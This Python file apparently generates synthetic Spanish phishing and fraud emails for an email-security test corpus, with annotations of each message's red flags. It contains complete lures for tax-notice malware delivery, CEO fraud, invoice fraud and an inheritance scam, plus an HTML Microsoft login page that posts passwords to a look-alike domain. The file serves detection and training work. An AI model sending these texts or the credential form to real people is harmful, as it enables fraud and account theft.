"""Attack messages 27-31 (Spanish)."""

from lib import systems as sy, bodies as bd, mime, docs, archive, ident, org, util
from lib.h import msg, att, pdf, qr_png, qr_part, logo_png, gmt
from lib.util import CRLF, secs, rfcdate

ATT = "attack"
DFL = org.DFL


@msg(ATT, 27, "es", "aeat-expediente-sancionador-img",
     "'Agencia Tributaria' notification of a sanctioning procedure, the 'electronically signed notification' is "
     "attached as a disk image (.img)",
     "Malware loader with container evasion: IMG/ISO attachment (bypasses Mark-of-the-Web) holding a '.pdf.lnk' "
     "shortcut; sent from an OVH shared-hosting account on sede-agenciatributaria.com (AEAT notifies only through "
     "DEHú/sede.agenciatributaria.gob.es); legal threat with 10-day deadline")
def a27(m):
    m.when(2026, 10, 19, 8, 17, 42)
    m.frm = ("Agencia Tributaria", "notificaciones@sede-agenciatributaria.com")
    m.to = [org.st("javier.morales")]
    m.subject = "Notificación electrónica: Expediente sancionador n.º 2026GRC46118427"
    r = m.rng
    inert = ("[INERT TEST SAMPLE – no executable content]\r\nRepresents a Windows shortcut (.lnk) disguised as a PDF. "
             "In the real campaign it runs a script that installs a remote-access trojan. Text only.\r\n")
    img = archive.iso9660([("Notificacion_AEAT_2026GRC46118427.pdf.lnk", inert.encode()),
                           ("firma_electronica.dat", ("[INERT] placeholder for a hidden payload file\r\n").encode())],
                          volume="AEAT_NOTIFICACION", dt=(2026, 10, 19, 6, 2, 11))
    text = ("AGENCIA ESTATAL DE ADMINISTRACIÓN TRIBUTARIA\n"
            "Delegación Especial de Valencia\n\n"
            "Estimado/a contribuyente:\n\n"
            "Le comunicamos que se ha iniciado un procedimiento sancionador (expediente n.º 2026GRC46118427) en "
            "relación con el Impuesto sobre el Valor Añadido del ejercicio 2025, por la entidad EXAMPLE FARMACIAS "
            "S.L. (NIF %s).\n\n"
            "Por motivos de seguridad y para garantizar la integridad de la firma electrónica, la notificación se "
            "adjunta como imagen de disco. Para consultarla, haga doble clic en el archivo adjunto y abra el "
            "documento.\n\n"
            "Dispone de un plazo de DIEZ días hábiles para formular alegaciones. Transcurrido dicho plazo sin "
            "respuesta, se dictará resolución con la sanción correspondiente.\n\n"
            "Atentamente,\nAgencia Tributaria\nSede electrónica\n" % org.OFF["ES"]["taxid"][1])
    tp = mime.text(text, "plain", "iso-8859-1", "8bit")
    a = att(m, img, "application/octet-stream", "Notificacion_AEAT_2026GRC46118427.img", "plain")
    m.root = mime.multipart1("mixed", [tp, a], "b1_" + r.alnum(40))
    hdrs = sy.mua_phpmailer(m, "sede-agenciatributaria.com", "6.8.1")
    host = "mo%d.mail-out.ovh.net" % r.randint(4000, 4999)
    ip = "178.32.%d.%d" % (r.randint(100, 127), r.randint(2, 250))
    sy.relay(m, host, ip, hdrs, submit={"kind": "raw", "lines": [
        "Received: from director%d.ghost.mail-out.ovh.net (unknown [10.108.%d.%d])" % (r.randint(1, 9), r.randint(2, 250), r.randint(2, 250))
        + CRLF + "\tby %s (Postfix) with ESMTP id %s" % (host, util.postfix_qid(r)) + CRLF +
        "\tfor <javier.morales@example.com>; %s" % rfcdate(m.arrival - secs(1), "UTC", comment=True),
        "Received: from ghost-submission-%s-%s (unknown [10.110.%d.%d])" % (r.hexs(10), r.alnum(5, "abcdefghijklmnopqrstuvwxyz0123456789"),
                                                                             r.randint(2, 250), r.randint(2, 250)) + CRLF +
        "\tby director%d.ghost.mail-out.ovh.net (Postfix) with ESMTPSA" % r.randint(1, 9) + CRLF +
        "\tid %s; %s" % (util.postfix_qid(r), rfcdate(m.date + secs(1), "UTC", comment=True))]},
        extra_trace=["X-Ovh-Tracer-GUID: %s" % r.guid(), "X-Ovh-Tracer-Id: %d" % r.randint(10**18, 10**19 - 1),
                     "X-VR-SPAMSTATE: OK", "X-VR-SPAMSCORE: 0",
                     "X-VR-SPAMCAUSE: gggruggvucftvghtrhhoucdtuddrgeefuddrudekvddgjeegucetufdoteggodetrfdotffvucfrrhho"],
        tls="1.3", mailfrom="notificaciones@sede-agenciatributaria.com")


@msg(ATT, 28, "es", "ceo-whatsapp-numero-movil",
     "'Matthias Brenner' writes to the Valencia office manager from outlook.com: are you in the office, send me your "
     "mobile number, I want to add you to a WhatsApp group for a confidential matter",
     "CEO-fraud first contact aimed at moving the conversation to WhatsApp (out of reach of the mail gateway): "
     "consumer Outlook.com account, CEO writing in Spanish to a subsidiary employee, secrecy")
def a28(m):
    m.when(2026, 11, 19, 9, 6, 38)
    m.frm = ("Matthias Brenner", "m.brenner.ceo@outlook.com")
    m.to = [org.st("lucia.fernandez")]
    m.subject = "Asunto confidencial"
    m.lang = "es-ES"
    text = ("Hola Lucía,\n\n"
            "¿Estás en la oficina esta mañana? Necesito tu ayuda con un asunto confidencial que no puedo tratar por "
            "correo.\n\n"
            "Por favor, envíame tu número de móvil, quiero añadirte a un grupo de WhatsApp con nuestro abogado. "
            "Te pido discreción total, de momento no lo comentes con nadie de la oficina.\n\n"
            "Gracias,\nMatthias Brenner\nCEO | Example Group SE")
    bd.outlook(m, text, "iso-8859-1", html_lang="ES")
    sy.outlook_consumer(m, "outlook.com")


@msg(ATT, 29, "es", "aemps-alerta-html-login",
     "'AEMPS – Alerta de calidad' about a recall of medicine batches; the list of affected batches is in an HTML "
     "attachment that shows a Microsoft 365 login pre-filled with the recipient's address",
     "HTML-attachment credential phishing themed on a pharmacy-specific regulator: AEMPS alerts come from "
     "aemps.gob.es and are public web pages; here Amazon SES on aemps-alertas.es, local HTML form posting the "
     "password to login-aemps-verificacion.com")
def a29(m):
    m.when(2026, 12, 10, 12, 51, 4)
    m.frm = ("AEMPS - Alertas de Calidad", "alertas@aemps-alertas.es")
    m.to = [org.st("lucia.fernandez")]
    m.subject = "Alerta de calidad R-2026-118: retirada de lotes - acción requerida en farmacias"
    r = m.rng
    action = "https://login-aemps-verificacion.com/auth/owa.php"
    page = ("<!DOCTYPE html>\n<html lang=\"es\">\n<head>\n<meta charset=\"utf-8\">\n<title>Iniciar sesión</title>\n"
            "<style>body{background:#f2f2f2;font-family:'Segoe UI',Arial,sans-serif}.c{width:380px;margin:80px auto;"
            "background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;padding:8px 0;border:0;"
            "border-bottom:1px solid #666;margin:12px 0}button{float:right;background:#0067b8;color:#fff;border:0;"
            "padding:8px 30px}</style>\n</head>\n<body>\n<div class=\"c\">\n"
            "<div style=\"font-size:15px;color:#737373\">Microsoft</div>\n<h2>Escriba la contraseña</h2>\n"
            "<p>Para ver el documento «Listado de lotes afectados R-2026-118» confirme su identidad.</p>\n"
            "<form method=\"post\" action=\"@A@\">\n"
            "<input type=\"email\" name=\"login\" value=\"lucia.fernandez@example.com\">\n"
            "<input type=\"password\" name=\"passwd\" placeholder=\"Contraseña\">\n"
            "<button type=\"submit\">Iniciar sesión</button>\n</form>\n</div>\n</body>\n</html>\n").replace("@A@", action)
    m.fact("URL", action, "form action inside the HTML attachment")
    paras = ["Estimado/a farmacéutico/a:",
             "La Agencia Española de Medicamentos y Productos Sanitarios informa de la retirada del mercado de "
             "varios lotes de medicamentos por un defecto de calidad (clase 2). Las oficinas de farmacia deben "
             "comprobar sus existencias y devolver las unidades afectadas al distribuidor en un plazo de 48 horas.",
             "El listado de lotes afectados se adjunta a esta comunicación (documento protegido). Para visualizarlo "
             "deberá identificarse con su cuenta corporativa.",
             "Referencia: R-2026-118 · Fecha: 10/12/2026"]
    footer = ["Agencia Española de Medicamentos y Productos Sanitarios · C/ Campezo 1, Edificio 8 · 28022 Madrid"]
    html = bd.notice_html("AEMPS", "#00457c", "Alerta de calidad R-2026-118", paras, None, footer, lang="es")
    text = bd.notice_text("Alerta de calidad R-2026-118", paras, None, footer)
    a = att(m, page.encode("utf-8"), "text/html", "AEMPS_Alerta_R-2026-118_lotes.html", "plain")
    bd.alt(m, text, html, "----=_Part_%d_%d" % (r.randint(10**5, 10**6), r.randint(10**8, 10**9)), "UTF-8",
           "quoted-printable", attachments=[a], mixed_boundary="----=_Part_%d_%d" % (r.randint(10**5, 10**6),
                                                                                     r.randint(10**8, 10**9)),
           one_line=False)
    sy.ses(m, "aemps-alertas.es", "54.240.4.%d" % r.randint(10, 250), region="eu-west-1")


@msg(ATT, 30, "es", "dfl-sosia-facturas-vencidas",
     "'Facturación DFL' sends a statement of overdue invoices, threatens to suspend deliveries to the pharmacies "
     "and gives 'our current account' for immediate payment",
     "Invoice fraud from the look-alike domain dfarlevante.com (real: dfarlevante.es): urgency (supply stop), new "
     "account at another bank (BBVA instead of CaixaBank), invoice numbers that do not exist in the ledger, asks to "
     "reply only to this address")
def a30(m):
    m.when(2026, 12, 11, 17, 22, 31)
    m.frm = ("Facturación DFL", "facturacion@dfarlevante.com")
    m.to = [org.st("javier.morales")]
    m.cc = [org.st("lucia.fernandez")]
    m.subject = "Recordatorio: facturas vencidas - riesgo de suspensión de suministro"
    iban = ident.iban_es("0182", "7541", "0201588316")
    m.fact("IBAN", iban, "attacker account")
    text = ("Estimado Sr. Morales:\n\n"
            "Según nuestros registros, a fecha de hoy constan pendientes de pago las facturas indicadas en el extracto "
            "adjunto, con un importe total vencido de 31.846,22 €.\n\n"
            "Le rogamos que proceda al pago antes del 15/12/2026. Transcurrido dicho plazo, nuestro departamento de "
            "riesgos bloqueará los pedidos de sus farmacias hasta la regularización del saldo.\n\n"
            "Debido a una incidencia con nuestra entidad habitual, le rogamos que realice la transferencia a nuestra "
            "cuenta operativa:\n\n"
            "BBVA – %s\n\n"
            "Para cualquier aclaración, responda únicamente a este correo; la centralita está saturada por el cierre "
            "del ejercicio.\n\n"
            "Un saludo,\n\nDepartamento de Facturación\nDistribuidora Farmacéutica Levante S.A.\n" % ident.fmt_iban(iban))
    pdfb, total = docs.invoice(
        "es", ["Distribuidora Farmacéutica Levante S.A.", "Avinguda de la Ciència 31, 46980 Paterna (Valencia)",
               "CIF " + DFL["vat"]],
        ["Example Farmacias S.L.", "Calle de Colón 18", "46004 Valencia", "NIF " + org.OFF["ES"]["taxid"][1]],
        [("Extracto", "EXT-2026-3318"), ("Fecha", "11/12/2026"), ("Cliente", "43-01882")],
        [("Factura FV26-088417 (30/09/2026) – vencida", 1, 12308.41, 0),
         ("Factura FV26-091206 (15/10/2026) – vencida", 1, 10941.07, 0),
         ("Factura FV26-093872 (31/10/2026) – vencida", 1, 8596.74, 0)],
        ["BBVA", "IBAN " + ident.fmt_iban(iban), "Concepto: EXT-2026-3318"],
        dict(title="Extracto", author="Facturacion", creator="Microsoft Excel", producer="Microsoft Excel 2019",
             date="D:20261211165510+01'00'"),
        color=(0, 120, 110), title="Extracto de facturas vencidas")
    a = att(m, pdfb, "application/pdf", "Extracto_facturas_vencidas_DFL.pdf", "gmail")
    bd.gmail(m, text, attachments=[a])
    sy.gmail(m, domain="dfarlevante.com")


@msg(ATT, 31, "es", "abogado-herencia-anticipo",
     "'Lawyer Fernando Ruiz Castellanos' offers to share an unclaimed inheritance of EUR 8.4 m left by a deceased "
     "client named Fernández, asks for confidentiality and personal data",
     "Advance-fee fraud (419): Yahoo address, windfall story, the recipient's surname used as hook, request for "
     "ID, phone and bank details, later 'legal fees'")
def a31(m):
    m.when(2026, 10, 30, 21, 44, 17)
    m.frm = ("Fernando Ruiz Castellanos", "f.ruizcastellanos.abogado@yahoo.es")
    m.to = [org.st("lucia.fernandez")]
    m.subject = "Propuesta confidencial - herencia sin reclamar"
    r = m.rng
    phone = "+34 631 48 29 57"
    m.fact("phone", phone)
    text = ("Estimada Sra. Fernández:\n\n"
            "Le pido disculpas por contactar con usted de esta manera. Soy el abogado Fernando Ruiz Castellanos, "
            "letrado del difunto Sr. Andrés Fernández Soler, empresario del sector inmobiliario que falleció junto a "
            "su esposa y su única hija en un accidente de tráfico en la A-7 en 2023.\n\n"
            "Mi cliente dejó depositados 8.400.000,00 € (ocho millones cuatrocientos mil euros) en una entidad "
            "financiera de Madrid. Tras más de dos años de búsqueda no hemos localizado a ningún familiar, y la "
            "entidad me ha comunicado que, de no presentarse un beneficiario, los fondos pasarán al Estado.\n\n"
            "Dado que usted comparte el apellido de mi cliente, le propongo presentarla como beneficiaria. Todo el "
            "procedimiento es legal y está respaldado por la documentación que obra en mi poder. El reparto sería "
            "del 50 %% para usted, 40 %% para mí y 10 %% para gastos y obras benéficas.\n\n"
            "Si está interesada, le ruego me envíe con la mayor discreción:\n"
            "1. Nombre completo\n2. Teléfono móvil\n3. Copia de su DNI o pasaporte\n\n"
            "Puede contactarme también por WhatsApp en el %s.\n\n"
            "Quedo a la espera de su respuesta.\n\n"
            "Atentamente,\nLdo. Fernando Ruiz Castellanos\nAbogado – Colegiado n.º 71.248\n" % phone)
    html = ('<html><head></head><body><div class="yahoo-style-wrap" style="font-family:Helvetica Neue, Helvetica, '
            'Arial, sans-serif;font-size:13px;"><div dir="ltr" data-setdir="false">'
            + "".join("<div>%s</div>" % (bd.inline_html(l) or "<br>") for l in text.split("\n")) +
            "</div></div></body></html>\n")
    bd.alt(m, text, html, "----=_Part_%d_%d.%d" % (r.randint(10**6, 10**7), r.randint(10**8, 10**9),
                                                     util.epoch(m.date) * 1000 + r.randint(0, 999)),
           "UTF-8", "quoted-printable", one_line=False)
    m.msgid = "%d.%d.%d@mail.yahoo.com" % (r.randint(10**8, 10**9), r.randint(10**8, 10**9), r.randint(10**8, 10**9))
    hdrs = m.std(["Date", "From", "Reply-To", "To", "Message-ID", "Subject", "MIME-Version", "MIME"])
    hdrs += ["References: <%s>" % m.msgid, "X-Mailer: WebService/1.1.24652 YMailNorrin"]
    node = "sonic%d-%d.consmr.mail.ir2.yahoo.com" % (r.randint(300, 320), r.randint(1, 30))
    ip = "77.238.17%d.%d" % (r.randint(6, 9), r.randint(2, 250))
    sy.relay(m, node, ip, hdrs, submit={"kind": "raw", "lines": [
        "X-Sonic-MF: <f.ruizcastellanos.abogado@yahoo.es>",
        "X-Sonic-ID: %s" % r.guid(),
        "Received: from sonic.gate.mail.ne1.yahoo.com by %s with HTTP; %s" % (node, rfcdate(m.date + secs(1), "UTC"))]},
        dkim=[("yahoo.es", "s2048", "relaxed/relaxed", "Date:From:Reply-To:To:Subject:References:From:Subject:Reply-To")],
        tls="1.3", mailfrom="f.ruizcastellanos.abogado@yahoo.es")
    m.reply_to = []
